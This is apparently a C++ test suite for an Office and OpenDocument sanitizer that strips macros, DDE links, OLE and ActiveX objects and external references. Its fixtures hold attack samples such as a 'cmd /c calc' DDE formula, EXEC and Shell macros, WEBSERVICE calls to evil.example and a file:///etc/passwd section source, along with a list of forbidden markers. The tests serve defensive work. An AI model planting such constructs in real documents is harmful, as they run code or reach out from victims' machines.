  d.overrides = {{"word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"}};
  d.parts = {{"word/header1.xml", "<w:document" + kWordNsDecls + "/>"}};
  EXPECT_EQ(strip(d.build()).out.reason.code, "office.unexpected_part");
}

TEST(OfficeStripPackage, FormatsWeDoNotRebuildAreRemovedWithAReason) {
  // XPS: an OPC package without an Office main part.
  Members xps = {{"[Content_Types].xml", content_types({{"FixedDocSeq.fdseq", "application/vnd.ms-package.xps-fixeddocumentsequence+xml"}})},
                 {"_rels/.rels", rels({{"rId1", "http://schemas.microsoft.com/xps/2005/06/fixedrepresentation", "FixedDocSeq.fdseq"}})},
                 {"FixedDocSeq.fdseq", "<FixedDocumentSequence/>"}};
  Result r = strip(zip(xps), Kind::Office, "p.xps");
  EXPECT_EQ(r.out.action, Outcome::Action::Remove);
  EXPECT_EQ(r.out.reason.code, "office.unsupported");

  for (const auto& [type, code] : std::vector<std::pair<std::string, std::string>>{
           {"application/vnd.ms-excel.sheet.binary.macroEnabled.main", "office.xlsb"},
           {"application/vnd.ms-excel.addin.macroEnabled.main+xml", "office.addin"},
           {"application/vnd.ms-powerpoint.addin.macroEnabled.main+xml", "office.addin"}}) {
    Members m = {{"[Content_Types].xml", content_types({{"xl/workbook.bin", type}})},
                 {"_rels/.rels", rels({{"rId1", "officeDocument", "xl/workbook.bin"}})},
                 {"xl/workbook.bin", "binary"}};
    Result u = strip(zip(m), Kind::Office, "book.xlsb");
    EXPECT_EQ(u.out.action, Outcome::Action::Remove) << type;
    EXPECT_EQ(u.out.reason.code, code) << type;
    EXPECT_FALSE(u.out.reason.ja.empty());
  }
}

// ---- Excel ----

const std::string kX = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const std::string kXDecls = " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                            " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
                            " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"";

std::string worksheet(const std::string& inner) { return kXmlDecl + "<worksheet" + kXDecls + ">" + inner + "</worksheet>"; }

struct Workbook {
  std::string main_type = kXlsmMain;
  std::string workbook_inner;
  std::vector<Rel> workbook_rels;
  Members parts;
  std::vector<std::pair<std::string, std::string>> overrides;

  std::string build() const {
    std::vector<std::pair<std::string, std::string>> types = {{"xl/workbook.xml", main_type}};
    types.insert(types.end(), overrides.begin(), overrides.end());
    Members m = {{"[Content_Types].xml", content_types(types)},
                 {"_rels/.rels", rels({{"rId1", "officeDocument", "xl/workbook.xml"}})},
                 {"xl/workbook.xml", kXmlDecl + "<workbook" + kXDecls + ">" + workbook_inner + "</workbook>"},
                 {"xl/_rels/workbook.xml.rels", rels(workbook_rels)}};
    m.insert(m.end(), parts.begin(), parts.end());
    return zip(m);
  }
};

const std::string kWorksheetType = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";

std::vector<std::string> attribute_values(const std::string& xml, const std::string& element, const char* attr) {
  std::vector<std::string> out;
  auto parsed = office_strip::parse_xml(xml);
  std::function<void(const xmlNode*)> walk = [&](const xmlNode* n) {
    for (const xmlNode* c = n->children; c; c = c->next) {
      if (c->type != XML_ELEMENT_NODE) continue;
      if (office_strip::local_name(*c) == element) out.push_back(office_strip::attribute(*c, "", attr).value_or("-"));
      walk(c);
    }
  };
  if (parsed.doc) walk(xmlDocGetRootElement(parsed.doc.get()));
  return out;
}

TEST(OfficeStripExcel, MacroSheetsAutoOpenDdeAndExternalFormulasGo) {
  Workbook w;
  w.workbook_inner =
      "<bookViews><workbookView activeTab=\"2\" firstSheet=\"1\"/></bookViews>"
      "<sheets><sheet name=\"Macro1\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Data\" sheetId=\"2\" r:id=\"rId2\"/>"
      "<sheet name=\"Summary\" sheetId=\"3\" r:id=\"rId3\"/></sheets>"
      "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
      "<definedName name=\"Total\" localSheetId=\"2\">Summary!$B$2</definedName>"
      "<definedName name=\"Local0\" localSheetId=\"0\">Macro1!$A$1</definedName>"
      "<definedName name=\"Web\">WEBSERVICE(\"http://evil.example/\")</definedName>"
      "<definedName name=\"Run\" function=\"1\" xlm=\"1\">Macro1!$A$2</definedName>"
      "<definedName name=\"Rate\">Data!$A$1</definedName></definedNames>"
      "<externalReferences><externalReference r:id=\"rId5\"/></externalReferences>";
  w.workbook_rels = {{"rId1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"},
                     {"rId2", "worksheet", "worksheets/sheet1.xml"},
                     {"rId3", "worksheet", "worksheets/sheet2.xml"},
                     {"rId4", "sharedStrings", "sharedStrings.xml"},
                     {"rId5", "externalLink", "externalLinks/externalLink1.xml"},
                     {"rId6", "connections", "connections.xml"},
                     {"rId7", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"}};
  w.overrides = {{"xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"},
                 {"xl/worksheets/sheet1.xml", kWorksheetType},
                 {"xl/worksheets/sheet2.xml", kWorksheetType},
                 {"xl/sharedStrings.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"},
                 {"xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"},
                 {"xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"},
                 {"xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"},
                 {"xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing"},
                 {"xl/comments1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"}};
  const std::string sheet1 = worksheet(
      "<sheetData><row r=\"1\">"
      "<c r=\"A1\"><v>42</v></c>"
      "<c r=\"A2\"><f>cmd|' /c calc'!A0</f><v>0</v></c>"
      "<c r=\"A3\" t=\"e\"><f>[1]!_xlbgnm.A1</f><v>#REF!</v></c>"
      "<c r=\"A4\"><f>SUM(A1:A1)</f><v>42</v></c>"
      "<c r=\"A5\" t=\"str\"><f>_xlfn.WEBSERVICE(\"http://evil.example/\")</f><v>ok</v></c>"
      "<c r=\"A6\" t=\"str\"><f>HYPERLINK(\"http://evil.example/\",\"link\")</f><v>link</v></c>"
      "<c r=\"A7\" t=\"str\"><f>\"a|b\"&amp;\"[1]\"</f><v>a|b[1]</v></c>"
      "<c r=\"B1\"><f t=\"shared\" ref=\"B1:B3\" si=\"0\">'[1]Sheet1'!A1</f><v>1</v></c>"
      "<c r=\"B2\"><f t=\"shared\" si=\"0\"/><v>2</v></c>"
      "<c r=\"C1\"><f t=\"shared\" ref=\"C1:C2\" si=\"1\">A1+1</f><v>43</v></c>"
      "<c r=\"C2\"><f t=\"shared\" si=\"1\"/><v>44</v></c>"
      "<c r=\"D1\" t=\"s\"><v>0</v></c>"
      "</row></sheetData>"
      "<hyperlinks><hyperlink ref=\"A6\" r:id=\"rIdH\"/></hyperlinks>"
      "<legacyDrawing r:id=\"rIdV\"/>"
      "<oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rIdO\"/></oleObjects>"
      "<controls><control shapeId=\"1026\" r:id=\"rIdC\" name=\"Button1\"/></controls>");
  w.parts = {
      {"xl/macrosheets/sheet1.xml",
       kXmlDecl + "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"" + kXDecls +
           "><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>"},
      {"xl/worksheets/sheet1.xml", sheet1},
      {"xl/worksheets/_rels/sheet1.xml.rels",
       rels({{"rIdH", "hyperlink", "http://evil.example/", true},
             {"rIdV", "vmlDrawing", "../drawings/vmlDrawing1.vml"},
             {"rIdCm", "comments", "../comments1.xml"},
             {"rIdO", "oleObject", "../embeddings/oleObject1.bin"},
             {"rIdC", "control", "../activeX/activeX1.xml"}})},
      {"xl/worksheets/sheet2.xml",
       worksheet("<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>集計</t></is></c></row></sheetData>")},
      {"xl/sharedStrings.xml", kXmlDecl + "<sst" + kXDecls + " count=\"1\"><si><t>売上</t></si></sst>"},
      {"xl/externalLinks/externalLink1.xml",
       kXmlDecl + "<externalLink" + kXDecls + "><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"},
      {"xl/connections.xml", kXmlDecl + "<connections" + kXDecls + "/>"},
      {"xl/vbaProject.bin", "VBA"},
      {"xl/embeddings/oleObject1.bin", "OLE"},
      {"xl/comments1.xml", kXmlDecl + "<comments" + kXDecls +
                               "><authors><author>山田</author></authors><commentList><comment ref=\"A1\" authorId=\"0\">"
                               "<text><t>確認済み</t></text></comment></commentList></comments>"},
      {"xl/drawings/vmlDrawing1.vml",
       "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
       "xmlns:x=\"urn:schemas-microsoft-com:office:excel\">"
       "<v:shape id=\"_x0000_s1025\"><x:ClientData ObjectType=\"Note\"><x:Row>0</x:Row></x:ClientData></v:shape>"
       "<v:shape id=\"_x0000_s1026\"><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!Evil</x:FmlaMacro>"
       "</x:ClientData></v:shape></xml>"}};
  Result r = strip(w.build(), Kind::Office, "集計.xlsm");
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(r.out.name, "集計.xlsx");
  EXPECT_EQ(r.out.type, kXlsxMime);
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty()) << join(office_test::ooxml_problems(r.out.bytes));
  auto out = r.members();
  for (const auto& [name, data] : out) {
    for (const char* gone : {"macrosheet", "externallink", "connections", "vba", "oleobject", "activex", "ddelink", "evil"})
      EXPECT_FALSE(contains(lower(name + data), gone)) << gone << " in " << name;
  }
  const std::string book = out["xl/workbook.xml"];
  EXPECT_EQ(attribute_values(book, "sheet", "name"), (std::vector<std::string>{"Data", "Summary"}));
  EXPECT_EQ(attribute_values(book, "definedName", "name"), (std::vector<std::string>{"Total", "Rate"}));
  EXPECT_EQ(attribute_values(book, "definedName", "localSheetId"), (std::vector<std::string>{"1", "-"}));
  EXPECT_EQ(attribute_values(book, "workbookView", "activeTab"), std::vector<std::string>{"1"});
  EXPECT_EQ(attribute_values(book, "workbookView", "firstSheet"), std::vector<std::string>{"0"});
  EXPECT_EQ(count_elements(book, "externalReferences"), 0);
  const std::string s1 = out["xl/worksheets/sheet1.xml"];
  // Formulas that reach out are gone; every cached value stays.
  EXPECT_EQ(count_elements(s1, "f"), 4) << s1;  // A4, A7 (only strings), C1, C2
  EXPECT_EQ(count_elements(s1, "v"), 12);
  EXPECT_EQ(count_elements(s1, "hyperlinks"), 0);
  EXPECT_EQ(count_elements(s1, "legacyDrawing"), 1);
  const std::string vml = out["xl/drawings/vmlDrawing1.vml"];
  EXPECT_EQ(attribute_values(vml, "ClientData", "ObjectType"), std::vector<std::string>{"Note"});
  EXPECT_EQ(texts(out["xl/comments1.xml"]), std::vector<std::string>{"確認済み"});
  EXPECT_EQ(texts(out["xl/sharedStrings.xml"]), std::vector<std::string>{"売上"});
  EXPECT_EQ(texts(out["xl/worksheets/sheet2.xml"]), std::vector<std::string>{"集計"});
  for (const char* code : {"office.xlm", "office.dde", "office.external", "office.hyperlinks", "office.activex",
                           "office.macros", "office.embedded"})
    EXPECT_TRUE(r.noted(code)) << code << "\n" << r.describe();
}

TEST(OfficeStripExcel, MacroSheetPosingAsAWorksheetGoes) {
  Workbook w;
  w.workbook_inner = "<sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"B\" sheetId=\"2\" r:id=\"rId2\"/></sheets>";
  w.workbook_rels = {{"rId1", "worksheet", "worksheets/sheet1.xml"}, {"rId2", "worksheet", "worksheets/sheet2.xml"}};
  w.overrides = {{"xl/worksheets/sheet1.xml", kWorksheetType}, {"xl/worksheets/sheet2.xml", kWorksheetType}};
  w.parts = {{"xl/worksheets/sheet1.xml",
              kXmlDecl + "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"" + kXDecls +
                  "><sheetData/></xm:macrosheet>"},
             {"xl/worksheets/sheet2.xml", worksheet("<sheetData/>")}};
  Result r = strip(w.build(), Kind::Office, "b.xlsm");
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(attribute_values(r.member("xl/workbook.xml"), "sheet", "name"), std::vector<std::string>{"B"});
  EXPECT_EQ(r.members().count("xl/worksheets/sheet1.xml"), 0u);
  EXPECT_TRUE(r.noted("office.xlm"));

  // Nothing but macro sheets: nothing to deliver.
  Workbook only;
  only.workbook_inner = "<sheets><sheet name=\"M\" sheetId=\"1\" r:id=\"rId1\"/></sheets>";
  only.workbook_rels = {{"rId1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"}};
  Result e = strip(only.build(), Kind::Office, "m.xlsm");
  EXPECT_EQ(e.out.action, Outcome::Action::Remove);
  EXPECT_EQ(e.out.reason.code, "office.empty");
}

// ---- PowerPoint ----

TEST(OfficeStripPowerPoint, OleFramesActionsAndAnimationCommandsGo) {
  const std::string p = "http://schemas.openxmlformats.org/presentationml/2006/main";
  const std::string decls = " xmlns:p=\"" + p + "\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
                            " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
                            " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"";
  const std::string frame_head =
      "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"4\" name=\"Object 3\"/><p:cNvGraphicFramePr/><p:nvPr/>"
      "</p:nvGraphicFramePr><p:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"10\" cy=\"10\"/></p:xfrm><a:graphic>"
      "<a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\">";
  const std::string slide =
      kXmlDecl + "<p:sld" + decls + "><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/>"
      "</p:nvGrpSpPr><p:grpSpPr/>"
      "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Title\"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>"
      "<a:p><a:r><a:rPr><a:hlinkClick r:id=\"rIdUrl\"/></a:rPr><a:t>外部リンク</a:t></a:r>"
      "<a:r><a:rPr><a:hlinkClick r:id=\"\" action=\"ppaction://program\"/></a:rPr><a:t>実行</a:t></a:r>"
      "<a:r><a:rPr><a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=Evil\"/></a:rPr><a:t>マクロ</a:t></a:r>"
      "<a:r><a:rPr><a:hlinkClick r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/></a:rPr><a:t>次へ</a:t></a:r>"
      "</a:p></p:txBody></p:sp>"
      "<mc:AlternateContent><mc:Choice Requires=\"v\">" + frame_head +
      "<p:oleObj r:id=\"rIdOle\" progId=\"Package\"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"
      "</mc:Choice><mc:Fallback>" + frame_head +
      "<p:oleObj r:id=\"rIdOle\" progId=\"Package\"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id=\"4\" name=\"Object 3\"/>"
      "<p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed=\"rIdImg\"/></p:blipFill><p:spPr/></p:pic>"
      "</p:oleObj></a:graphicData></a:graphic></p:graphicFrame></mc:Fallback></mc:AlternateContent>"
      "</p:spTree><p:controls><p:control r:id=\"rIdAx\" spid=\"_x0000_s1\" name=\"Cmd\"/></p:controls></p:cSld>"
      "<p:timing><p:tnLst><p:par><p:cTn id=\"1\"><p:childTnLst><p:cmd type=\"verb\" cmd=\"0\"><p:cBhvr><p:cTn id=\"2\"/>"
      "<p:tgtEl><p:sldTgt/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>";
  Members m = {
      {"[Content_Types].xml",
       content_types({{"ppt/presentation.xml", kPptmMain},
                      {"ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"},
                      {"ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"},
                      {"ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject"}})},
      {"_rels/.rels", rels({{"rId1", "officeDocument", "ppt/presentation.xml"}})},
      {"ppt/presentation.xml", kXmlDecl + "<p:presentation" + decls +
                                   "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst></p:presentation>"},
      {"ppt/_rels/presentation.xml.rels",
       rels({{"rId2", "slide", "slides/slide1.xml"},
             {"rId3", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"}})},
      {"ppt/slides/slide1.xml", slide},
      {"ppt/slides/_rels/slide1.xml.rels",
       rels({{"rIdUrl", "hyperlink", "https://evil.example/", true},
             {"rIdOle", "oleObject", "../embeddings/oleObject1.bin"},
             {"rIdImg", "image", "../media/image1.png"},
             {"rIdAx", "control", "../activeX/activeX1.xml"}})},
      {"ppt/embeddings/oleObject1.bin", "OLE"},
      {"ppt/media/image1.png", office_test::tiny_png()},
      {"ppt/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"},
      {"ppt/vbaProject.bin", "VBA"}};
  Result r = strip(zip(m), Kind::Office, "発表.pptm");
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(r.out.name, "発表.pptx");
  EXPECT_EQ(r.out.type, kPptxMime);
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty()) << join(office_test::ooxml_problems(r.out.bytes));
  const std::string s = r.member("ppt/slides/slide1.xml");
  EXPECT_EQ(count_elements(s, "oleObj"), 0);
  EXPECT_EQ(count_elements(s, "graphicFrame"), 0);
  EXPECT_EQ(count_elements(s, "AlternateContent"), 0);
  EXPECT_EQ(count_elements(s, "pic"), 1) << "the object's picture takes its place";
  EXPECT_EQ(count_elements(s, "timing"), 0);
  EXPECT_EQ(count_elements(s, "controls"), 0);
  EXPECT_EQ(attribute_values(s, "hlinkClick", "action"), std::vector<std::string>{"ppaction://hlinkshowjump?jump=nextslide"});
  EXPECT_EQ(texts(s), (std::vector<std::string>{"外部リンク", "実行", "マクロ", "次へ"}));
  EXPECT_EQ(r.members().count("ppt/media/image1.png"), 1u);
  for (const char* code : {"office.embedded", "office.events", "office.hyperlinks", "office.activex", "office.macros"})
    EXPECT_TRUE(r.noted(code)) << code << "\n" << r.describe();
}

// ---- OpenDocument ----

const std::string kOdfDecls =
    " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
    " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
    " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
    " xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
    " xmlns:xlink=\"http://www.w3.org/1999/xlink\""
    " xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
    " xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\""
    " xmlns:meta=\"urn:oasis:names:tc:opendocument:xmlns:meta:1.0\""
    " xmlns:svg=\"urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0\""
    " office:version=\"1.3\"";

std::string manifest(const std::string& mime, const std::vector<std::string>& entries, const std::string& extra = "") {
  std::string s = kXmlDecl + "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" "
                             "manifest:version=\"1.3\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"" +
                  mime + "\"/>";
  for (const auto& e : entries)
    s += "<manifest:file-entry manifest:full-path=\"" + e + "\" manifest:media-type=\"text/xml\"" +
         (e == "content.xml" && !extra.empty() ? extra : "/>");
  return s + "</manifest:manifest>";
}

std::string odt(const std::string& body, const Members& more = {}, const std::string& meta_inner = "",
                const std::string& mime = "application/vnd.oasis.opendocument.text", const std::string& manifest_extra = "") {
  Members m = {{"mimetype", mime},
               {"content.xml", kXmlDecl + "<office:document-content" + kOdfDecls + ">" + body + "</office:document-content>"},
               {"styles.xml", kXmlDecl + "<office:document-styles" + kOdfDecls + "/>"},
               {"meta.xml", kXmlDecl + "<office:document-meta" + kOdfDecls + "><office:meta>" + meta_inner +
                                "</office:meta></office:document-meta>"}};
  std::vector<std::string> entries = {"content.xml", "styles.xml", "meta.xml"};
  for (const auto& p : more) {
    m.push_back(p);
    entries.push_back(p.first);
  }
  m.push_back({"META-INF/manifest.xml", manifest(mime, entries, manifest_extra)});
  return zip(m);
}

TEST(OfficeStripOpenDocument, MacrosEventsObjectsAndLinksGoTextStays) {
  const std::string body =
      "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" "
      "script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>"
      "</office:event-listeners></office:scripts>"
      "<office:body><office:text>"
      "<office:forms><form:form form:name=\"F\"><form:button form:name=\"B\"/></form:form></office:forms>"
      "<text:p>報告書の本文です。</text:p>"
      "<text:p><text:a xlink:type=\"simple\" xlink:href=\"https://evil.example/\">外部リンク</text:a>と"
      "<text:a xlink:href=\"#目次\">内部リンク</text:a>と"
      "<text:a xlink:href=\"vnd.sun.star.script:Standard.Module1.Evil?language=Basic&amp;location=document\">マクロリンク</text:a></text:p>"
      "<text:p><draw:frame draw:name=\"Obj\"><draw:object xlink:href=\"./Object 1\"/>"
      "<draw:image xlink:href=\"./ObjectReplacements/Object 1\"/><svg:desc/></draw:frame></text:p>"
      "<text:p><draw:frame draw:name=\"Pic\"><draw:image xlink:href=\"Pictures/pic.png\"/></draw:frame>"
      "<draw:frame draw:name=\"Remote\"><draw:image xlink:href=\"http://evil.example/track.png\"/></draw:frame>"
      "<draw:frame draw:name=\"Up\"><draw:image xlink:href=\"../secret.png\"/></draw:frame></text:p>"
      "<text:section text:name=\"S\"><text:section-source xlink:href=\"file:///etc/passwd\"/><text:p>節</text:p></text:section>"
      "<text:p><text:execute-macro text:name=\"Evil\">押してください</text:execute-macro></text:p>"
      "<text:p><text:script script:language=\"JavaScript\">alert(1)</text:script>後</text:p>"
      "<draw:control draw:control=\"B\"/>"
      "</office:text></office:body>";
  const std::string input = odt(
      body,
      {{"settings.xml", "<office:document-settings" + kOdfDecls + "/>"},
       {"Basic/Standard/Module1.xml", "<script:module>Sub Main\nShell \"calc\"\nEnd Sub</script:module>"},
       {"Basic/script-lc.xml", "<library:libraries/>"},
       {"Object 1/content.xml", "<office:document-content" + kOdfDecls + "/>"},
       {"ObjectReplacements/Object 1", office_test::tiny_png()},
       {"Pictures/pic.png", office_test::tiny_png()},
       {"Thumbnails/thumbnail.png", office_test::tiny_png()},
       {"Configurations2/toolbar/custom.xml", "<toolbar:toolbar/>"}},
      "<meta:template xlink:href=\"http://evil.example/t.ott\"/><meta:auto-reload xlink:href=\"http://evil.example/\"/>"
      "<meta:initial-creator>山田</meta:initial-creator>");
  Result r = strip(input, Kind::OpenDocument, "報告.odt");
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(r.out.name, "報告.odt");
  EXPECT_EQ(r.out.type, "application/vnd.oasis.opendocument.text");
  EXPECT_EQ(office_test::member_names(r.out.bytes),
            (std::vector<std::string>{"mimetype", "content.xml", "styles.xml", "meta.xml", "ObjectReplacements/Object 1",
                                      "Pictures/pic.png", "META-INF/manifest.xml"}));
  EXPECT_TRUE(office_test::odf_problems(r.out.bytes).empty()) << join(office_test::odf_problems(r.out.bytes));
  const std::string content = r.member("content.xml");
  for (const char* gone : {"scripts", "event-listener", "forms", "object", "section-source", "execute-macro", "script",
                           "control", "a"})
    EXPECT_EQ(count_elements(content, gone), gone == std::string("a") ? 1 : 0) << gone;
  EXPECT_FALSE(contains(content, "evil"));
  EXPECT_FALSE(contains(content, "vnd.sun.star.script"));
  EXPECT_EQ(count_elements(content, "frame"), 2) << "the object's picture and the picture stay";
  EXPECT_EQ(texts(content), (std::vector<std::string>{"報告書の本文です。", "外部リンクと内部リンクとマクロリンク", "", "",
                                                      "節", "押してください", "後"}));
  const std::string meta = r.member("meta.xml");
  EXPECT_EQ(count_elements(meta, "template"), 0);
  EXPECT_EQ(count_elements(meta, "auto-reload"), 0);
  EXPECT_EQ(count_elements(meta, "initial-creator"), 1);
  for (const char* code : {"office.macros", "office.events", "office.activex", "office.embedded", "office.hyperlinks",
                           "office.external", "office.customui", "office.hidden"})
    EXPECT_TRUE(r.noted(code)) << code << "\n" << r.describe();
}

TEST(OfficeStripOpenDocument, SpreadsheetFormulasThatReachOutLoseTheFormulaKeepTheValue) {
  const std::string body =
      "<office:body><office:spreadsheet><table:table table:name=\"S\"><table:table-row>"
      "<table:table-cell table:formula=\"of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)\" office:value-type=\"float\" office:value=\"3\"><text:p>3</text:p></table:table-cell>"
      "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;http://evil.example/&quot;)\" office:value-type=\"string\"><text:p>x</text:p></table:table-cell>"
      "<table:table-cell table:formula=\"of:=SUM([.A1:.B1])\" office:value-type=\"float\" office:value=\"3\"><text:p>3</text:p></table:table-cell>"
      "</table:table-row></table:table><table:dde-links><table:dde-link/></table:dde-links></office:spreadsheet></office:body>";
  Result r = strip(odt(body, {}, "", "application/vnd.oasis.opendocument.spreadsheet"), Kind::OpenDocument, "表.ods");
  ASSERT_TRUE(r.replaced()) << r.describe();
  const std::string content = r.member("content.xml");
  EXPECT_FALSE(contains(content, "DDE("));
  EXPECT_FALSE(contains(content, "WEBSERVICE"));
  EXPECT_TRUE(contains(content, "SUM("));
  EXPECT_EQ(count_elements(content, "dde-links"), 0);
  EXPECT_EQ(texts(content), (std::vector<std::string>{"3", "x", "3"}));
  EXPECT_TRUE(r.noted("office.dde"));
  EXPECT_TRUE(r.noted("office.external"));
}

TEST(OfficeStripOpenDocument, EncryptedDatabasesAndDoctypes) {
  Result enc = strip(odt("<office:body/>", {}, "", "application/vnd.oasis.opendocument.text",
                         "><manifest:encryption-data manifest:checksum-type=\"SHA1/1K\"/></manifest:file-entry>"),
                     Kind::OpenDocument, "x.odt");
  EXPECT_EQ(enc.out.action, Outcome::Action::Block) << enc.describe();
  EXPECT_EQ(enc.out.reason.code, "office.encrypted");

  Result base = strip(odt("<office:body/>", {}, "", "application/vnd.oasis.opendocument.base"), Kind::OpenDocument, "x.odb");
  EXPECT_EQ(base.out.action, Outcome::Action::Remove);
  EXPECT_EQ(base.out.reason.code, "office.unsupported");

  Members m = {{"mimetype", "application/vnd.oasis.opendocument.text"},
               {"content.xml", kBillionLaughs + "<office:document-content" + kOdfDecls + ">&lol9;</office:document-content>"},
               {"META-INF/manifest.xml", manifest("application/vnd.oasis.opendocument.text", {"content.xml"})}};
  Result dt = strip(zip(m), Kind::OpenDocument, "x.odt");
  EXPECT_EQ(dt.out.action, Outcome::Action::Block);
  EXPECT_EQ(dt.out.reason.code, "office.doctype");
}

// ---- configuration ----

TEST(OfficeStripConfig, OptionsAndRegistration) {
  EXPECT_THROW(make_office_strip_active(toml::parse("nope = 1")), ConfigError);
  EXPECT_THROW(make_office_strip_active(toml::parse("max_members = 0")), ConfigError);
  EXPECT_THROW(make_office_strip_active(toml::parse("max_members = \"many\"")), ConfigError);
  EXPECT_NO_THROW(make_office_strip_active(toml::parse("max_members = 100")));
  SanitizerRegistry registry;
  register_builtin_sanitizers(registry);
  ASSERT_TRUE(registry.contains("office.strip_active"));
  auto s = registry.create("office.strip_active", {});
  EXPECT_EQ(s->name(), "office.strip_active");
  EXPECT_EQ(s->handles(), (std::vector<Kind>{Kind::Office, Kind::OpenDocument}));
}

// ---- the public corpus ----

struct CorpusFile {
  std::string path, rel;
};

void list_files(const std::string& dir, const std::string& rel, std::vector<CorpusFile>& out) {
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  std::vector<std::string> names;
  while (dirent* e = readdir(d)) {
    std::string n = e->d_name;
    if (n != "." && n != "..") names.push_back(n);
  }
  closedir(d);
  std::sort(names.begin(), names.end());
  for (const auto& n : names) {
    const std::string path = dir + "/" + n;
    if (DIR* sub = opendir(path.c_str())) {
      closedir(sub);
      list_files(path, rel + n + "/", out);
    } else {
      out.push_back({path, rel + n});
    }
  }
}

std::string extension(const std::string& name) {
  std::size_t dot = name.rfind('.');
  return dot == std::string::npos ? "" : lower(name.substr(dot + 1));
}

// What the issue says must not survive, in any member name or content.
std::vector<std::string> forbidden_left(const std::string& bytes) {
  std::vector<std::string> found;
  for (const auto& [name, data] : unzip(bytes)) {
    const std::string l = lower(name + "\n" + data);
    for (const char* bad : {"vbaproject", "activex", "oleobject", "embeddings/", "targetmode=\"external\"",
                            "attachedtemplate", "customui", "macrosheet", "ddelink", "ddeservice", "event-listener",
                            "basic/", "scripts/", "vnd.sun.star.script"})
      if (contains(l, bad)) found.push_back(name + ": " + bad);
    if (name.ends_with(".xml")) {
      const std::string instr = lower(instructions(data));
      for (const char* f : {"dde", "include", "hyperlink", "macrobutton", "link "})
        if (contains(instr, f)) found.push_back(name + ": field " + instr);
    }
  }
  return found;
}

